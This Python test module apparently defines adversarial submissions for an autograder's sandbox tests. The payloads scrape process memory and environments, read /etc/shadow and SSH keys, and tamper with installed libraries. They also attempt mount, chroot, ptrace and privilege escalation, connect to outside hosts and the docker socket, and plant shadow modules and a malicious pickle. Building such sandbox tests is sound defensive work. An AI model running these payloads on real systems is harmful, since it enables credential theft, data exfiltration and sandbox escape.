"""Code that looks for what it must not see, or changes what is not its own.

``@COURSE@`` stands for the course's folder, ``@REPOSITORY@`` for ours, ``@HOME@`` for the
grader's home. Whatever they find, they print.
"""

from tests.autograder.adversaries.kinds import GELU_TESTS, PLAIN, Adversary, in_gelu

LOOT = """\
import contextlib, glob, os, re, subprocess, sys
PATTERN = re.compile(rb"canary" + rb"-[0-9a-f]{16}")


def loot(path):
    try:
        with open(path, "rb") as file:
            content = file.read(50_000_000)
    except (OSError, ValueError) as error:
        return type(error).__name__
    return f"{path} {len(content)} bytes {PATTERN.findall(content)}"


"""

PROCESSES = (
    LOOT
    + """\
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("environ", "cmdline", "maps", "cwd", "root/etc/shadow", "auxv", "stat"):
            print(pid, what, loot(f"/proc/{pid}/{what}"))
        with contextlib.suppress(OSError):
            for number in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    print(pid, number, os.readlink(f"/proc/{pid}/fd/{number}"))
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    low, high = (int(n, 16) for n in line.split()[0].split("-"))
                    if "rw" in line and high - low < 200_000_000:
                        with contextlib.suppress(OSError, OverflowError, ValueError):
                            memory.seek(low)
                            found = set(PATTERN.findall(memory.read(high - low)))
                            if found:
                                print("MEMORY", pid, found)
        except OSError as error:
            print(pid, "mem", type(error).__name__)
print("looked")
"""
)

EVERYWHERE = (
    LOOT
    + """\
skipped = ("/usr", "/lib", "/lib64", "/proc", "/dev", sys.prefix, sys.base_prefix,
           os.environ["COURSE_DATA"])
count = 0
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in skipped]
    for file in files:
        count += 1
        found = loot(os.path.join(folder, file))
        if not found.endswith("[]"):
            print(found)
print("looked at", count, "files in", os.listdir("/"), glob.glob("/root/*"), glob.glob("/home/*"))
"""
)

PLACES = (
    LOOT
    + """\
for root in ("@COURSE@", "@REPOSITORY@", "@HOME@", "/root", "/home"):
    for path in ("source/gpt2/gpt2.ipynb", "solutions/gpt2/gpt2.ipynb", "gradebook.db",
                 ".ssh/id_ed25519", "note.txt", "submitted/anna/gpt2/gpt2.ipynb", ".bashrc",
                 "autograded/anna/gpt2/gpt2.ipynb", "nbgrader_config.py", "../..", ".gitconfig"):
        print(loot(f"{root}/{path}"))
for path in ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/var/run/docker.sock", "/proc/1/root",
             "/proc/self/root/../@COURSE@/gradebook.db", "/proc/kcore", "/dev/mem", "/dev/vda",
             "/dev/sda", "/sys/kernel", "/run/docker.sock", "/proc/sysrq-trigger", "/dev/kmsg"):
    print(path, loot(path))
print("looked")
"""
)

IMPORTS = """\
import importlib, sys
sys.path += ["@REPOSITORY@", "@REPOSITORY@/src", "@COURSE@"]
for name in ("autograder", "course", "autograder.execution.test_kernel", "autograder.job",
             "hidden_tests", "hidden_tests.assignment5", "mistakes", "examples",
             "tests.autograder.adversaries", "training", "nbgrader_config"):
    try:
        print("IMPORTED", importlib.import_module(name).__file__)
    except ImportError as error:
        print("refused", error)
"""

WRITES = """\
import os, shutil, site, subprocess, sys
import numpy, seqlab, minikernel
places = [seqlab.__file__, minikernel.__file__, numpy.__file__, os.environ["COURSE_DATA"] + "/x",
          site.getsitepackages()[0] + "/evil.pth", sys.executable, "/usr/bin/env", "/etc/passwd",
          "/x", "/work/x", "/root/x", "@COURSE@/x", "@REPOSITORY@/x", "/run/x", "/dev/x",
          "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/1/oom_score_adj"]
for place in places:
    try:
        with open(place, "ab") as file:
            file.write(b"evil")
        print("WROTE", place)
    except OSError as error:
        print("refused", place, error.strerror)
    for do in (os.unlink, lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + ".old"),
               lambda p: os.chown(p, os.getuid(), -1), lambda p: os.utime(p, (0, 0)),
               lambda p: os.link(p, "/tmp/link"), shutil.rmtree):
        try:
            do(place)
            print("CHANGED", place)
        except OSError:
            pass
"""

MOUNTS = """\
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)


def attempt(what, result):
    print("DID" if result == 0 else "refused", what, os.strerror(ctypes.get_errno()))


attempt("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=50g"))
attempt("remount", libc.mount(b"none", b"/", None, 32 | 4096, None))
attempt("umount", libc.umount2(b"/tmp", 2))
attempt("chroot", libc.chroot(b"/tmp"))
attempt("pivot", libc.syscall(155, b"/tmp", b"/tmp"))
attempt("sethostname", libc.sethostname(b"evil", 4))
attempt("setuid", libc.setuid(0))
attempt("setns", libc.setns(os.open("/proc/self/ns/mnt", 0), 0))
attempt("mknod", libc.mknod(b"/tmp/disk", 0o60660, os.makedev(254, 0)))
attempt("reboot", libc.reboot(0))
pid = os.fork()
if pid == 0:
    done = libc.unshare(0x10000000 | 0x20000)
    os.write(1, b"DID unshare a user namespace\\n" if done == 0 else b"refused unshare\\n")
    mounted = libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=50g")
    os.write(1, b"DID mount in it\\n" if mounted == 0 else b"refused mount in it\\n")
    os._exit(0)
os.waitpid(pid, 0)
"""

COMMANDS = """\
import subprocess
for command in ("su -c id", "sudo -n id", "mount -t tmpfs x /tmp", "unshare -Ur id",
                "nsenter -t 1 -m id", "chroot / id", "newgrp root", "passwd -d root",
                "cat /etc/shadow", "bwrap --bind / / id",
                "crontab -l", "at now", "docker ps", "systemctl status", "dmesg", "fdisk -l"):
    done = subprocess.run(command, shell=True, capture_output=True, text=True,
                          stdin=subprocess.DEVNULL, timeout=3)
    print(command, done.returncode)
    if "uid=0(" in done.stdout:
        print("RO" + "OT")
"""

NETWORK = """\
import os, socket
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 80)),
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\\0@NAME@"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "@SOCKET@"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/var/run/docker.sock"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"),
):
    end = socket.socket(family, kind)
    end.settimeout(0.5)
    try:
        end.connect(address)
        print("CONNECTED", address)
        end.send(b"stolen")
    except OSError as error:
        print("refused", address, error)
for do in (lambda: socket.getaddrinfo("example.org", 80),
           lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
           lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)):
    try:
        print("CONNECTED", do())
    except OSError as error:
        print("refused", error)
print("tried", os.listdir("/sys/class/net") if os.path.exists("/sys/class/net") else "")
"""

PTRACE = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [0, 1, os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if pid == os.getpid():
        continue
    for request in (16, 0x4206):
        done = libc.ptrace(request, pid, None, None)
        print("TRACED" if done == 0 else "refused", pid, os.strerror(ctypes.get_errno()))
    buffer = ctypes.create_string_buffer(64)

    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    here, there = Piece(ctypes.addressof(buffer), 64), Piece(0x400000, 64)
    if pid:
        read = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        print("READ" if read > 0 else "refused", pid)
"""

# The keyring of a session outlives processes: what one student leaves there another could find.
KEYRING = """\
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
add, control = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
for ring in (-3, -4, -5):
    found = libc.syscall(control, 10, ring, b"user", b"adversary", 0)
    print("FOUND" if found > 0 else "nothing", ring, os.strerror(ctypes.get_errno()))
    print("left", libc.syscall(add, b"user", b"adversary", b"loot", 4, ring))
"""

SHADOW_FILES = {
    "numpy/__init__.py": b"raise SystemExit('numpy of my own')",
    "numpy.py": b"raise SystemExit('numpy of my own')",
    "seqlab.py": b"raise SystemExit",
    "seqlab/__init__.py": b"def __getattr__(name):\n    return lambda *a, **k: True\n",
    "seqlab/checks.py": b"def __getattr__(name):\n    return lambda *a, **k: True\n",
    "math.py": b"raise SystemExit",
    "minikernel/__init__.py": b"raise SystemExit",
    "minikernel/protocol.py": b"raise SystemExit",
    "autograder/__init__.py": b"raise SystemExit",
    "sitecustomize.py": b"print('SITE'); import os; os._exit(1)",
    "usercustomize.py": b"print('SITE'); import os; os._exit(1)",
    "conftest.py": b"import os; os._exit(1)",
    "evil.pth": b"import os; os._exit(1)",
    "matplotlibrc": b"backend: module://evil\n",
    ".ipython/profile_default/startup/00.py": b"import os; os._exit(1)",
    ".config/matplotlib/matplotlibrc": b"backend: module://evil\n",
    ".local/lib/python3.11/site-packages/usercustomize.py": b"import os; os._exit(1)",
    "nbgrader_config.py": b"c = get_config(); c.Policy.sandbox = False; raise SystemExit",
    "jupyter_config.json": b'{"Policy": {"sandbox": false}}',
    "pyproject.toml": b"[",
    ".env": b"COURSE_DATA=/",
    "__init__.py": b"raise SystemExit",
    "timestamp.txt": b"never\0",
}

# pickles that would end whoever loads them: (exit, (3,)) as protocol 0 has it
PICKLE = b"cposix\n_exit\n(I3\ntR."
LOADS = """\
import os, pickle
import numpy as np
print("beside", sorted(os.listdir("."))[:5])
if os.fork() == 0:
    pickle.load(open("a.pkl", "rb"))
try:
    np.load("b.npy", allow_pickle=False)
except ValueError as error:
    print("loaded nothing", error)
"""

ALL = (
    Adversary(
        "processes",
        "reads memory, environment and files of all processes",
        base=PLAIN,
        first=PROCESSES,
        says="looked",
    ),
    Adversary(
        "everywhere", "opens every file there is", base=PLAIN, first=EVERYWHERE, says="looked at"
    ),
    Adversary(
        "places", "opens what it knows to be worth opening", base=PLAIN, first=PLACES, says="looked"
    ),
    Adversary("imports", "imports the grader", base=PLAIN, first=IMPORTS, says="refused"),
    Adversary(
        "environment",
        "prints its environment",
        base=PLAIN,
        first="import os, sys\nprint('shown', dict(os.environ), sys.argv, sys.path)",
        says="shown",
    ),
    Adversary("writes", "writes to what others run", base=PLAIN, first=WRITES, says="refused"),
    Adversary(
        "mounts", "mounts, changes roots and namespaces", base=PLAIN, first=MOUNTS, says="refused"
    ),
    Adversary(
        "commands", "runs what makes others root", base=PLAIN, first=COMMANDS, says="su -c id"
    ),
    Adversary(
        "network", "calls home, by every way there is", base=PLAIN, first=NETWORK, says="tried"
    ),
    Adversary("ptrace", "takes hold of its parents", base=PLAIN, first=PTRACE, says="refused"),
    Adversary(
        "keyring",
        "leaves a note in the keyring for the next one",
        base=PLAIN,
        first=KEYRING + "\n" + KEYRING,
        says="left",
    ),
    Adversary(
        "shadows",
        "brings modules and settings of its own along",
        files=SHADOW_FILES,
        first="import subprocess, sys\n"
        "print(subprocess.run([sys.executable, '-c', 'print(1)'], capture_output=True))",
    ),
    Adversary(
        "pickles",
        "brings files that harm whoever loads them",
        base=PLAIN,
        first=LOADS,
        files={
            "a.pkl": PICKLE,
            "b.npy": b"\x93NUMPY\x01\x00v\x00{'descr': '|O', "
            b"'fortran_order': False, 'shape': (1,), }" + b" " * 62 + b"\n" + PICKLE,
            "c.h5": b"\x89HDF\r\n\x1a\n" + b"\xff" * 200,
            "d.npz": b"PK\x03\x04" * 9,
        },
        says="beside",
    ),
    Adversary(
        "late-thief",
        "looks for the tests while it is being tested",
        base=PLAIN,
        cells=in_gelu(PROCESSES),
        costs=GELU_TESTS,
        statuses=("graded", "timed out"),
        says="looked",
    ),
)
